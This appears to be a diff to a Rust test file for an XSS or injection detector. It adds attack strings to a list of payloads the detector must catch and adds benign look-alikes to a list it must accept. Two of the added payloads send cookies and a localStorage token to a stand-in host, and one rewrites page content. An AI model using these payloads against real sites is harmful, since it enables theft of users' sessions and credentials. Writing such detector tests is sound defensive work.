@@ -7,6 +7,9 @@ const VALUE: Context = Context::of(Place::Value);
 const RICH: Context = Context { place: Place::Value, rich_text: true };
 
 const ATTACKS: &[&str] = &[
+    "';new Image().src='//evil.example/?'+document.cookie;'",
+    "';new \n Image().src=`http://evil.example/?`+localStorage.token;//z",
+    "';document.body.innerHTML='<h1>x</h1>';'",
     "<a onmouseover=\"setTimeout('ale'+'rt(1)')\">",
     "<p x-data x-init=\"alert(1)\">x</p>",
     "<b @click=\"alert(1)\">x</b>",
@@ -151,6 +154,8 @@ const ATTACKS: &[&str] = &[
 ];
 
 const HONEST: &[&str] = &[
+    "'new Image' 是什么",
+    "it's a new image; see src",
     "<template><b>{{ a }}</b></template>\n<script>\nexport default { data() { return { a: 1 } } }\n</script>",
     "<el-button @click=\"save\" v-on:change=\"load()\">保存</el-button>",
     "血糖<5.0 mmol/L",
